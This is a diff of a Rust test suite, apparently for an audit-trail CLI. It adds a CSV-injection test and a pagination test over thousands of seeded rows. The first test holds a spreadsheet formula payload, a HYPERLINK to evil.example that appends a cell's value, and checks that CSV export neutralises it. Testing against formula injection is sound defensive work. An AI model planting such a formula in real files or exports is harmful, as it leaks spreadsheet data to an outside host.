@@ -183,6 +183,49 @@ on_both_stores! {
         assert_eq!(cli.run("audit verify --workspace ws_2").status.code(), Some(0));
     }
 
+    /// A client's own request id stands in the trail.
+    async fn no_text_of_a_caller_is_a_formula_in_a_spreadsheet(on: On) {
+        const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&C2,\"ok\")";
+        let store = TestStore::create(on).await;
+        let server = TestServer::start(&store.database);
+        server.create().also("X-Request-Id", FORMULA).send().assert("create", 201, "2000");
+        let cli = Cli { url: store.database.url() };
+        let export = |format: &str| {
+            cli.ok(&format!("audit export --since 2026-01-01T00:00:00Z -o {format}"))
+        };
+        let csv = export("csv");
+        let quoted = FORMULA.replace('"', "\"\"");
+        assert!(csv.contains(&format!(",\"'{quoted}\",")), "{csv}");
+        let event: Value = serde_json::from_str(&export("jsonl")).unwrap();
+        assert_eq!(event["requestId"], FORMULA);
+    }
+
+    /// More than one page of each.
+    async fn long_lists_are_written_page_by_page(on: On) {
+        let store = TestStore::create(on).await;
+        let now = if matches!(on, On::Sqlite) { "0" } else { "now()" };
+        store.database.tamper(&format!(
+            "WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < 2500)
+             INSERT INTO workspaces (id, created_at) SELECT 'other_' || n, {now} FROM numbers;
+             WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < 2500)
+             INSERT INTO members (workspace_id, user_id, role) SELECT 'ws_1', 'other_' || n, 'VIEWER' FROM numbers"
+        )).await;
+        let cli = Cli { url: store.database.url() };
+        for (line, member) in [("workspaces list", "id"), ("members list --workspace ws_1", "userId")] {
+            let listed = cli.json(&format!("{line} -o json"));
+            let ids = listed.as_array().unwrap().iter().map(|row| row[member].as_str().unwrap());
+            let ids: Vec<&str> = ids.collect();
+            assert_eq!(ids.len(), 2501, "{line}");
+            assert!(ids.is_sorted_by(|a, b| a < b), "{line}");
+            let table = cli.ok(line);
+            assert_eq!(table.lines().count(), 2502, "a header and as many lines: {line}");
+        }
+        let verified = cli.run("audit verify");
+        assert_eq!(verified.status.code(), Some(0));
+        let told = String::from_utf8_lossy(&verified.stderr);
+        assert!(told.contains("0 events of 2501 workspaces"), "{told}");
+    }
+
     async fn who_has_read_enough_may_close_the_pipe(on: On) {
         let store = TestStore::create(on).await;
         let url = store.database.url().to_owned();
